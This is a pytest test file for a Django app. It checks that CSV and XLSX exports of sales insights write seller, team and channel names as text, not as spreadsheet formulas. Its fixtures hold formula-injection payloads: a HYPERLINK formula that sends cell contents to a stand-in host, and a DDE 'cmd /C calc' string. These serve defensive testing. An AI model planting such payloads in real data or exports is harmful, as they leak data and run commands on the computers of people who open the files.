"""Insights exports (CSV and XLSX): names are written as text, never as formulas."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from pacte.insights import exports

HOSTILE_SELLER = '=HYPERLINK("http://x.example/?"&A1,"x")'
HOSTILE_TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CHANNEL = "+1+1"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TABLES = ("summary", "months", "teams", "channels", "sellers", "heatmap", "ranking")


@pytest.fixture
def hostile(sales, quotas):
    sales.seller.name = HOSTILE_SELLER
    sales.seller.save(update_fields=["name"])
    sales.team.name = HOSTILE_TEAM
    sales.team.save(update_fields=["name"])
    sales.channel.name_en = HOSTILE_CHANNEL
    sales.channel.save(update_fields=["name_en"])
    return sales


def csv_cells(content: bytes) -> list[str]:
    return [v for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for v in row]


def xlsx_cells(content: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [c for row in sheet.iter_rows() for c in row]


def assert_csv_safe(cells: list[str], where: str) -> None:
    for value in cells:
        if value.startswith(FORMULA_START):
            # only a plain negative number may start with "-"
            assert value.startswith("-"), (where, value)
            assert value[1:].replace(".", "").isdigit(), (where, value)


def assert_xlsx_safe(cells: list[Any], where: str) -> None:
    for cell in cells:
        assert cell.data_type != "f", (where, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (where, cell.coordinate)
            if cell.value.startswith(FORMULA_START):
                assert cell.quotePrefix, (where, cell.coordinate)


@pytest.mark.django_db
def test_every_export_route_writes_hostile_names_as_text(hostile, login):
    client = login(hostile.executive)
    scopes = {
        "company": "",
        "team": f"&team={hostile.team.uuid}",
        "seller": f"&seller={hostile.seller.uuid}",
    }
    seen = {"csv": set(), "xlsx": set()}
    for scope, query in scopes.items():
        for table in TABLES:
            for fmt in ("csv", "xlsx"):
                url = f"/insights/export/?table={table}&format={fmt}&period=FY2026{query}"
                response = client.get(url)
                if response.status_code == 400:  # this screen has no such table
                    continue
                assert response.status_code == 200, url
                where = f"{scope} {table} {fmt}"
                if fmt == "csv":
                    cells = csv_cells(response.content)
                    assert_csv_safe(cells, where)
                    seen["csv"].update(v for v in cells if v.startswith("'"))
                else:
                    xcells = xlsx_cells(response.content)
                    assert_xlsx_safe(xcells, where)
                    seen["xlsx"].update(c.value for c in xcells if isinstance(c.value, str))
    # each hostile name was exported at least once, neutralised in CSV, intact in XLSX
    for name in (HOSTILE_SELLER, HOSTILE_TEAM, HOSTILE_CHANNEL):
        assert "'" + name in seen["csv"], name
        assert name in seen["xlsx"], name


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_attainment_command_writes_hostile_names_as_text(hostile, tmp_path, fmt):
    out = tmp_path / f"attainment.{fmt}"
    for by in ("seller,year", "team,year", "channel,year"):
        call_command(
            "export", "attainment", "--workspace", "acme", "--by", by, "--year", "FY2026",
            "--format", fmt, "--output", str(out),
        )  # fmt: skip
        if fmt == "csv":
            cells = csv_cells(out.read_bytes())
            assert_csv_safe(cells, by)
            assert any(v.startswith("'" + "=HYPERLINK") for v in cells) or by != "seller,year"
        else:
            xcells = xlsx_cells(out.read_bytes())
            assert_xlsx_safe(xcells, by)
            if by == "seller,year":
                assert HOSTILE_SELLER in [c.value for c in xcells]


def test_writers_keep_plain_negative_numbers_and_neutralise_the_rest():
    rows = [["-5", "-x", "\tTab", "\rCR", "ok", None]]
    cells = csv_cells(exports.to_csv(exports.Table(["h"], rows, ["text"] * 6)))
    assert cells[1:] == ["-5", "'-x", "'\tTab", "'\rCR", "ok", ""]


@pytest.mark.django_db
@pytest.mark.parametrize("table", ["heatmap", "teams", "ranking"])
def test_a_table_the_seller_screen_lacks_is_refused_clearly(sales, quotas, login, table):
    client = login(sales.executive)
    response = client.get(
        f"/insights/export/?table={table}&format=csv&period=FY2026&seller={sales.seller.uuid}"
    )
    assert response.status_code == 400
    assert "This screen has no such table." in response.content.decode()


@pytest.mark.django_db
def test_xlsx_money_and_percentages_carry_number_formats(sales, quotas, login):
    client = login(sales.executive)
    team = f"&team={sales.team.uuid}"
    expected = {
        # table: {header: format}
        "summary": {"Target": "#,##0.00", "Actual": "#,##0.00", "Attainment vs target": "0.0%"},
        "months": {"Target": "#,##0.00", "Forecast": "#,##0.00"},
        "sellers": {"Actual": "#,##0.00", "Chance of reaching the target": "0.0%"},
        "channels": {"Actual": "#,##0.00", "Share": "0.0%"},
        "ranking": {"Actual": "#,##0.00", "Attainment vs target": "0.0%"},
    }
    for table, formats in expected.items():
        response = client.get(f"/insights/export/?table={table}&format=xlsx&period=FY2026{team}")
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = list(sheet.iter_rows())
        head = [c.value for c in rows[0]]
        assert len(rows) > 1, table
        for header, number_format in formats.items():
            col = head.index(header)
            numbers = [r[col] for r in rows[1:] if isinstance(r[col].value, float | int)]
            assert numbers, (table, header)
            assert {c.number_format for c in numbers} == {number_format}, (table, header)
        # names stay text with the default format
        assert rows[1][0].number_format == "General"
    heat = client.get("/insights/export/?table=heatmap&format=xlsx&period=FY2026")
    cells = [c for row in load_workbook(io.BytesIO(heat.content)).active.iter_rows(min_row=2)
             for c in row[1:] if c.value is not None]  # fmt: skip
    assert cells
    assert {c.number_format for c in cells} == {"0.0%"}
    assert all(0 <= c.value < 10 for c in cells)  # fractions: 0.87 = 87 %


def test_csv_starts_with_a_byte_order_mark_so_spreadsheets_read_accents() -> None:
    table = exports.Table(["Vendeur"], [["Hélène Émery"]], ["text"])
    content = exports.to_csv(table, bom=True)
    assert content.startswith("\ufeff".encode())
    assert not exports.to_csv(table).startswith("\ufeff".encode())  # the command line's
    assert csv_cells(content) == ["Vendeur", "Hélène Émery"]
